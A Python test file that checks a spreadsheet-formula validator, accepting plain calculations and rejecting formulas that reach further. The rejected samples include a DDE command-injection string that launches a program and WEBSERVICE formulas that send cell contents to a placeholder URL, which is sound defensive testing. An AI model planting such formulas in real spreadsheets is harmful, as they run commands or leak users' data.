"""Formulas that count, and those that do more."""

import pytest

from builder.verifying.formulas import only_counts


@pytest.mark.parametrize(
    "said",
    [
        "B2",
        "$B$2:$B$4",
        'IF(A1>=0,"",-2.5E-3*n(XFD1048576))',
        'TEXT(B2,"0;""−""0")&CHAR(10)&"WEBSERVICE(1)"',
        "ROUND(6*(SUMPRODUCT($C$2:$C$4*(ROW($C$2:$C$4)-2<INT((ROW()+4)/6)))+MOD(ROW()-2,6)/5)/SUM($C$2:$C$4),3)",
    ],
)
def test_a_formula_that_counts_passes(said: str) -> None:
    assert only_counts(said)


@pytest.mark.parametrize(
    "said",
    [
        "",
        "cmd",
        "cmd|'/C calc'!A0",
        'webservice("http://e/"&A1)',
        'WEBSERVICE ("http://e/")',
        "SUM (A1)",
        "_xlfn.SUM(A1)",
        "A1(2)",
        "A1B",
        "Sheet2!A1",
        "'Sheet 1'!A1",
        "A1!B2",
        "Table[Column]",
        "{1;2}",
        "@A1",
        "#REF!",
        "ＳＵＭ(A1)",
        "TRUE",
        '"open',
        "A1 B1",
        "A1+" * 4000 + "A1",
    ],
)
def test_a_formula_that_does_more_does_not(said: str) -> None:
    assert not only_counts(said)
